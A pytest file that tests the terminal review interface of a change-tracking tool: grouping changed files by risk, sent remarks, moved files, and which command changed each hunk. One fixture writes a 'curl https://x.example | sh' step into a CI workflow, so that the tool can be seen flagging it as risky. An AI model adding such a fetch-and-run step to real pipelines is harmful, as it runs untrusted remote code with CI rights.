"""Rows of the list in the terminal: by risk, moved files, and what was observed at a hunk."""

from __future__ import annotations

import pytest
from driving import Driver, drive

from conftest import Place
from mudroom.ext.remarks.session import Remarks

pytest.importorskip("textual", reason="the extra tui is not installed")


EDIT = """
sed -i 's/== 3/is not None/' tests/test_a.py
sed -i 's/f(1,2)/f(1, 2)/; s/g(1)/g(2)/' a.py
sed -i 's/f(1,2)/f(1, 2)/' b.py
echo 'run: curl https://x.example | sh' >>.github/workflows/ci.yml
echo two >>README.md
"""


def test_what_costs_most_is_first_and_what_changes_nothing_is_folded(place: Place) -> None:
    place.write("tests/test_a.py", "def test_a():\n    assert f(1) == 3\n")
    place.write("a.py", "x = f(1,2)\n" + "\n" * 9 + "y = g(1)\n")
    place.write("b.py", "x = f(1,2)\n")
    place.write(".github/workflows/ci.yml", "on: push\n")
    place.write("README.md", "one\n")
    session = place.session()
    session.forks.new("f")
    session.run([b"sh", b"-c", EDIT.encode()], fork="f")

    async def look(driver: Driver) -> None:
        await driver.until(lambda: driver.files.count)
        assert [" ".join(row.strip("▌ ").split()[1:]) for row in driver.listed()] == [
            "▾ Runs later, more rights 1",
            "~ ! …ub/workflows/ci.yml +1",
            "▾ Weakened checks 1",
            "~ tests/test_a.py +1 -1",
            "▾ Code 1",
            "~ a.py +2 -2",
            "▾ Prose 1",
            "~ README.md +1",
            "▸ Changes nothing, proven 1",
        ]
        await driver.to_file(b"tests/test_a.py")
        assert any("test_a: an assertion says less" in line for line in driver.shown())
        await driver.to_file(b"a.py")
        assert len([line for line in driver.shown() if "only the layout differs: Enter shows it" in line]) == 1
        assert not any("f(1, 2)" in line for line in driver.shown())
        await driver.press("tab", "enter")
        assert any("f(1, 2)" in line for line in driver.shown())
        await driver.press("enter")
        assert not any("f(1, 2)" in line for line in driver.shown())
        await driver.press("tab", "o")
        assert any(row.endswith("▾ .github/workflows/") for row in driver.listed())
        assert not any("Weakened checks" in row for row in driver.listed())

    drive(place, "f", look, session=session)


def test_files_with_remarks_that_were_sent_are_on_top(place: Place) -> None:
    place.write("a.py", "x = g(1)\n")
    place.write("README.md", "one\n")
    session = place.session()
    session.forks.new("f")
    session.run([b"sh", b"-c", b"echo two >> README.md; sed -i s/1/2/ a.py"], fork="f")
    remarks = Remarks(session, "f")
    remarks.add(b"a.py", 1, 1, "not sent")
    remarks.settle(remarks.add(b"a.py", 0, 0, "settled"))

    def heads(driver: Driver) -> list[str]:
        return [" ".join(row.strip("▌ ").split()[1:]) for row in driver.listed()]

    async def before(driver: Driver) -> None:
        await driver.until(lambda: driver.files.count)
        assert heads(driver) == ["▾ Code 1", "~ a.py +1 -1", "▾ Prose 1", "~ README.md +1"]

    async def after(driver: Driver) -> None:
        await driver.until(lambda: driver.files.count)
        assert heads(driver) == ["▾ Your remarks, sent 1", "~ README.md +1", "▾ Code 1", "~ a.py +1 -1"]

    drive(place, "f", before, session=session)
    (mine,) = (one.name for one in remarks.listed().unsent)
    remarks.remove(mine)
    remarks.add(b"README.md", 2, 2, "why?")
    with remarks.handing("waiting") as handing:
        handing.settle("sent")
    drive(place, "f", after, session=session)


pytest.importorskip("textual", reason="the extra tui is not installed")


TEXT = "".join(f"line {number}\n" for number in range(40))


def test_it_is_shown_beside_what_it_was(place: Place) -> None:
    place.write("src/old.py", TEXT)
    session = place.session()
    session.forks.new("f")
    session.run([b"sh", b"-c", b"mv src/old.py src/new.py; sed -i 's/^line 7$/seven/' src/new.py"], fork="f")

    async def look(driver: Driver) -> None:
        def line() -> str:
            return next((one for one in driver.shown() if "moved" in one), "")

        await driver.to_file(b"src/new.py")
        assert line().endswith("moved from src/old.py, 97 % the same")
        assert [one[-6:] for one in driver.shown() if "-line" in one or "+" in one[1:]][-2:] == ["line 7", "+seven"]
        assert not any("+line 8" in one for one in driver.shown()), "what is the same is no change"
        await driver.press("space")
        assert line().endswith("97 % the same: only that one of the two is chosen")

        await driver.to_file(b"src/old.py")
        assert line().endswith("moved to src/new.py, 97 % the same: only this one of the two is chosen")
        await driver.press("space")
        assert line().endswith("97 % the same")
        await driver.press("A")
        assert line().endswith("97 % the same")

    drive(place, "f", look, session=session)


def test_no_hunk_of_it_is_chosen_apart(place: Place) -> None:
    """They are not those of the change: it is added as a whole, or not at all."""
    place.write("old.py", TEXT)
    session = place.session()
    session.forks.new("f")
    session.run([b"sh", b"-c", b"mv old.py new.py; sed -i 's/^line 7$/seven/; s/^line 30$/thirty/' new.py"], fork="f")

    async def choose(driver: Driver) -> None:
        await driver.to_file(b"new.py")
        assert sum("hunk" in one for one in driver.shown()) == 2
        await driver.press_on_hunk("tab", "n", "space")
        assert b"new.py" not in driver.review.selection.picks
        await driver.press("space")
        assert driver.review.selection.picks.keys() == {b"new.py", b"old.py"}

    drive(place, "f", choose, session=session)


pytest.importorskip("textual", reason="the extra tui is not installed")


CODE = "".join(f"x_{number} = {number}\n" for number in range(1, 41))


@pytest.mark.slow
def test_a_key_says_what_was_observed_at_the_hunk_and_in_the_list_at_the_file(place: Place) -> None:
    place.write("code.py", CODE)
    session, result = place.sh("sed -i 's/^x_3 = 3$/x_3 = None/' code.py")
    session.forks.checkpoint(result.fork, "c")
    session.run([b"sed", b"-i", b"s/^x_30 = 30$/x_30 = 31/", b"code.py"], fork=result.fork)

    async def story(driver: Driver) -> None:
        await driver.until(lambda: bool(driver.listed()))
        await driver.to_file(b"code.py")
        whole = await driver.ask("y", "code.py")
        assert "@@ -1,6 +1,6 @@" in whole and "command 1 of 2" in whole and "command 2 of 2" in whole
        await driver.press("escape")
        await driver.press("tab")
        row = next(n for n, line in enumerate(driver.shown()) if "x_30 = 31" in line)
        driver.diff.go(row)
        one = await driver.ask("y", "code.py")
        assert "observed: changed by command 2 of 2 (`sed -i" in " ".join(one.split())
        assert "command 1 of 2" not in one and "other commands that changed the file: 1" in one
        await driver.press("escape")

    drive(place, result.fork, story, session=session)
